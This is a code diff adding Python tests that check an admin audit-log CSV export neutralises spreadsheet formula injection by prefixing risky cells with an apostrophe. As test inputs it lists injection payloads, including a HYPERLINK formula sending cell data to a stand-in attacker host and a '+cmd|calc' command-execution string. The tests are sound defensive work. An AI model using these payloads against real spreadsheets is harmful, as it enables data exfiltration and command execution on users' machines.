@@ -12,6 +12,7 @@ import time_machine
 
 from tests.admin.conftest import login_staff
 from tests.admin.test_settings import settings_post
+from waterportal.core.spreadsheet import neutralise
 
 TOKYO = ZoneInfo("Asia/Tokyo")
 
@@ -117,3 +118,25 @@ def test_a_citizens_own_action_shows_its_japanese_name(app, staff_client, kanaza
     row = re.search(r"<tr>(?:(?!</tr>).)*member:7(?:(?!</tr>).)*</tr>", page, re.S).group(0)
     assert "会員登録" in row and "member.register" in row
     assert '<option value="member.register">会員登録(member.register)</option>' in page
+
+
+def test_formulas_typed_by_anyone_are_text_in_the_csv(staff_client, client_for):
+    """An attacker types a formula as the email at the console login; the failed login is
+    in the log, and the exported cell must not run as a formula in the admin's spreadsheet."""
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1)@evil.example', "+cmd|calc@evil.example", "-2+3@evil.example"]
+    for attack in attacks:  # what the login form accepts as an email, formula first
+        login_staff(client_for("kanazawa"), attack, "Wrong-Pass-2026!")
+    admin = staff_client("kanazawa")
+    raw = admin.get("/admin/audit.csv?action=staff.login_failed").data
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    targets = {row[5] for row in rows[1:]}
+    assert {"'" + attack.lower() for attack in attacks} <= targets
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+81 90", "'+81 90"), ("-1", "'-1"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("名寄 太郎", "名寄 太郎"), ("a=1", "a=1"), ("", ""), (None, ""), (42, "42"),
+])
+def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(value, cell):
+    assert neutralise(value) == cell
